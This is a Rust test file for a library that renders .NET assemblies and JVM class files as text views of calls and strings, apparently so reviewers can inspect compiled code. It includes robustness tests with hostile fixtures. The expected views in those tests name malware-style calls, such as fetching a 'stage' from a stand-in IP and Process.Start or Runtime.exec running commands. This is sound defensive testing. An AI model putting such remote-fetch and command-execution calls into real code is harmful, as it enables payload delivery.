//! The views of real compiled files, and what hostile bytes do to the readers.

mod common;

use common::{fixture, line_of};
use palisade_compiled::{Format, View, format_of, read};

fn view(name: &str) -> View {
    read(&fixture(name)).unwrap().expect("a compiled format")
}

#[test]
fn a_dotnet_assembly_reads_as_calls_and_strings_per_method() {
    let view = view("Sample.dll");
    assert_eq!(view.format, Format::DotNet);
    assert!(!view.truncated);
    for line in [
        "// assembly Sample",
        "[DllImport(\"user32.dll\")] extern MessageBoxW",
        // Generic instances are named by their type; strings become arguments.
        "System.Collections.Generic.List`1.Add(\"grüße\")",
        // Nested types are named inside their enclosing type.
        "new Sample.Format.Outer.Inner()",
        // Arguments are the operands the call was given, strings or not.
        "Sample.Format.Outer.MessageBox(System.IntPtr.Zero, \"text\", \"caption\", 0)",
        "Sample.Format.Outer.Names = new System.Collections.Generic.List`1()",
        // Quotes and newlines are escaped: a string cannot end its line.
        "System.String.Concat(\"Hello, \\\"\", arg1, \"\\\"\\n\")",
    ] {
        line_of(&view, line);
    }
    // The switch's strings are read past the switch table, in order.
    let zero = line_of(&view, "\"zero\"");
    assert_eq!(line_of(&view, "\"three\""), zero + 3);
    assert_eq!(
        view.method_at_line(zero).map(|(_, name)| name),
        Some("Sample.Format.Outer::Pick")
    );
    // Base constructor calls are noise and are left out.
    assert!(!view.text.contains("System.Object..ctor"), "{}", view.text);
}

#[test]
fn a_class_file_reads_as_calls_and_strings_per_method() {
    let view = view("Sample.class");
    assert_eq!(view.format, Format::Jvm);
    for line in [
        "// class sample.format.Sample",
        "java.util.List.add(\"grüße\")",
        "new sample.format.Sample$Inner()",
        "java.lang.StringBuilder.append(\"wide\")",
        "sample.format.Sample.NAMES = new java.util.ArrayList()",
        // A constructor's arguments are filled into its `new`.
        "sample.format.Sample$Inner.greet(java.lang.String.valueOf((loc0 + const)))",
    ] {
        line_of(&view, line);
    }
    // Strings after both switches (a tableswitch and a lookupswitch) are still found.
    let many = line_of(&view, "\"many\"");
    assert_eq!(
        view.method_at_line(many).map(|(_, name)| name),
        Some("sample.format.Sample::pick")
    );
    let inner = self::view("Sample_Inner.class");
    line_of(&inner, "java.lang.StringBuilder.append(\"Hello, \\\"\")");
}

#[test]
fn other_files_are_not_read() {
    assert_eq!(format_of(b"plain text"), None);
    assert!(read(b"MZ").unwrap().is_none());
    // A Mach-O universal binary shares the class file magic; its next word is small.
    assert_eq!(
        format_of(&[0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2, 0, 0, 0, 7]),
        None
    );
    // A PE file without a CLI header is native code, not .NET.
    let mut native = fixture("Sample.dll");
    let pe = u32::from_le_bytes(native[0x3C..0x40].try_into().unwrap()) as usize;
    let cli = pe + 24 + 96 + 14 * 8;
    native[cli..cli + 8].fill(0);
    assert_eq!(format_of(&native), None);
}

/// Every prefix of a real file, and the file with each byte flipped, reads to a view or
/// an error: never a panic, never more text than the limit.
#[test]
fn truncated_and_corrupted_files_give_errors_not_panics() {
    for name in ["Sample.dll", "Sample.class", "Sample_Inner.class"] {
        let data = fixture(name);
        for end in 0..data.len() {
            let _ = read(&data[..end]);
        }
        let mut errors = 0;
        for at in 0..data.len() {
            let mut bent = data.clone();
            bent[at] ^= 0xFF;
            match read(&bent) {
                Ok(Some(view)) => assert!(view.text.len() <= palisade_compiled::MAX_VIEW),
                Ok(None) => {}
                Err(error) => {
                    errors += 1;
                    assert!(!error.reason.is_empty());
                }
            }
        }
        assert!(errors > 0, "{name}: some corruption must be refused");
    }
    let truncated = &fixture("Sample.class")[..100];
    let error = read(truncated).unwrap_err();
    assert!(
        error.to_string().starts_with("unreadable JVM class file: "),
        "{error}"
    );
}

fn hostile(name: &str) -> Result<Option<View>, palisade_compiled::ReadError> {
    read(&fixture(&format!("hostile/{name}")))
}

/// The files of the review in `tests/data/hostile`: each once crashed a reader, or hid
/// a call from its view.
#[test]
fn hostile_files_are_read_or_refused_and_hide_nothing() {
    assert!(hostile("long_last.class").is_err());
    for name in ["t.exe", "t_junk.exe", "t_tbl30.exe"] {
        let view = hostile(name).unwrap().unwrap();
        for shown in [
            // ldftn, then calli through the pointer; jmp.
            "System.Diagnostics.Process.Start(<ref>)",
            "calli(\"touch\", ",
            // ldtoken, then MethodBase.Invoke: reflection calls the method it names.
            "System.Diagnostics.Process.Start(null, new[] {\"touch\", ",
        ] {
            assert!(
                view.text.contains(shown),
                "{name}: no {shown} in\n{}",
                view.text
            );
        }
        // One invalid method body is reported and does not hide the others.
        assert_eq!(view.unreadable.is_empty(), name != "t_junk.exe", "{name}");
    }
    let shown = [
        (
            "NoDup.class",
            "new java.net.URL(\"http://203.0.113.9/stage\")",
        ),
        (
            "Idx.dll",
            "System.Net.WebClient.DownloadString(\"http://203.0.113.9/n\")",
        ),
        ("Overlong.class", "java.lang.Runtime.exec(\"touch "),
    ];
    for (name, wanted) in shown {
        let view = hostile(name).unwrap().unwrap();
        assert!(
            view.text.contains(wanted),
            "{name}: no {wanted} in\n{}",
            view.text
        );
    }
    // A method named with line breaks still takes one header line.
    let view = hostile("N.class").unwrap().unwrap();
    let println = line_of(
        &view,
        "java.io.PrintStream.println(\"newline-named method ran\")",
    );
    assert_eq!(
        view.method_at_line(println).map(|(_, name)| name),
        Some("N::   Z")
    );
}

/// A class file whose thousands of string constants all name one 60 KB text gives a
/// view holding that text once, not once per constant.
#[test]
fn a_constant_repeated_thousands_of_times_is_written_once() {
    let mut class = vec![0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52];
    let strings = 4000u16;
    class.extend_from_slice(&(4 + strings).to_be_bytes());
    class.extend_from_slice(&[1, 0, 1, b'A', 7, 0, 1]);
    let text = "\u{1}".repeat(60_000);
    class.push(1);
    class.extend_from_slice(&(text.len() as u16).to_be_bytes());
    class.extend_from_slice(text.as_bytes());
    for _ in 0..strings {
        class.extend_from_slice(&[8, 0, 3]);
    }
    // access, this (#2), super, no interfaces, fields, methods or attributes.
    class.extend_from_slice(&[0, 1, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    let view = read(&class).unwrap().unwrap();
    assert_eq!(view.text.lines().count(), 3, "{}", &view.text[..200]);
}
